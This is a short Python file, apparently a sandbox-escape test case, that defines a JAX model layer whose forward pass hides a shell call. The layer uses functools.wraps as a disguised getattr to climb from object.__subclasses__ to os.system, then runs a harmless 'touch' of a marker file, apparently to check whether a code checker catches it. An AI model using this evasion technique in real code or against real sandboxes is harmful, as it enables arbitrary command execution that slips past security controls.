"""functools.reduce over string names with functools.wraps as getattr: object -> __subclasses__ -> os.system."""
import functools

import jax.numpy as jnp

from genesys_jax.gau import GAUBase


class Catch:
  """update_wrapper calls setattr(catch, name, value): keep the value under a plain key."""

  store = {}

  def __setattr__(self, name, value):
    Catch.store[name] = value


def _step(obj, name):
  functools.wraps(obj, assigned=(name,), updated=())(Catch())
  return Catch.store[name]


class ReduceChain(GAUBase):
  def _forward(self, X):
    subclasses = functools.reduce(_step, ["__subclasses__"], object)
    for cls in subclasses():
      if functools.reduce(_step, ["__name__"], cls) == "_wrap_close":
        run = functools.reduce(_step, ["__init__", "__globals__"], cls)["system"]
        run("touch /tmp/genesys_marker_should_not_exist")
    return X * 1.0


ROOT = ReduceChain
